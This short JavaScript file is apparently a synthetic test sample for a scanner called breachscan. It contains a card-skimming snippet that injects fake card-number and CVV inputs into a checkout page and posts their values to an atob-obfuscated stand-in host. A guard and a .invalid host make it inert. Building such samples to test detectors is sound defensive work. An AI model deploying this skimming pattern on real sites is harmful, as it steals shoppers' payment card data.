/* synthetic test sample for breachscan: fake payment form shape - injects its own card-number
 * and CVV inputs into the checkout page and posts them to an atob-hidden host.
 * Inert (`if (false)`, .invalid host). */
if (false) {
  document.querySelector("#payment-method-extra").innerHTML = '<div class="field"><label>Card number</label><input type="text" name="cc_number" id="cc_number"></div><div class="field"><label>CVV</label><input type="text" name="cc_cvv" id="cc_cvv"></div>';
  var u = atob("aHR0cHM6Ly9mb3Jtcy5pbnZhbGlkL2Y=");
  document.querySelector("#place-order").addEventListener("click", function () {
    var x = new XMLHttpRequest();
    x.open("POST", u);
    x.send(btoa(document.getElementById("cc_number").value + "|" + document.getElementById("cc_cvv").value));
  });
}
